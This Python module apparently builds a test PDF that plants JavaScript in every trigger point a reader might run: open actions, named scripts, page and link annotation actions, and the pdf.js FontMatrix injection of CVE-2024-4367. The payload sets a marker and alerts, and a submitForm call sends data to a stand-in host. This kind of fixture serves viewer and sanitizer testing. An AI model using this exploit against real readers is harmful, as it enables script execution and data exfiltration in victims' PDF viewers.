"""A PDF with a script wherever a reader might run one, among them the font of CVE-2024-4367."""

from io import BytesIO
from pathlib import Path

import pikepdf
import reportlab
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfgen import canvas

MARK = "armed"
SCRIPT = f"globalThis.{MARK} = 1; app.alert('armed'); this.submitForm('https://armed.invalid/')"
FONT = Path(reportlab.__file__).parent / "fonts" / "DarkGardenMK"
OUTLINED = 2
"""How the words are painted: filled and stroked, so that pdf.js builds their outlines itself."""


def armed() -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(_page())) as pdf:
        action = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
        pdf.Root.OpenAction = action
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))
        page = pdf.pages[0]
        page.obj.AA = Dictionary(O=action)
        for font in page.Resources.Font.values():
            if "FontDescriptor" in font:
                font.FontMatrix = Array([1, 2, 3, 4, 5, String(f"0); globalThis.{MARK} = 1; //")])
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 600, 800]),
            A=Dictionary(S=Name.URI, URI=String(f"javascript:globalThis.{MARK}=1")),
            AA=Dictionary(E=action, PV=action),
        )
        page.obj.Annots = Array([pdf.make_indirect(link)])
        pdf.save(out)
    return out.getvalue()


def _page() -> bytes:
    """Return a page whose words stand in an embedded Type 1 font."""
    face = pdfmetrics.EmbeddedType1Face(f"{FONT}.afm", f"{FONT}.pfb")
    pdfmetrics.registerTypeFace(face)
    pdfmetrics.registerFont(pdfmetrics.Font("armed", face.name, "WinAnsiEncoding"))
    out = BytesIO()
    drawn = canvas.Canvas(out)
    words = drawn.beginText(72, 700)
    words.setFont("armed", 40)
    words.setTextRenderMode(OUTLINED)
    words.textLine("AGREEMENT")
    drawn.drawText(words)
    drawn.save()
    return out.getvalue()
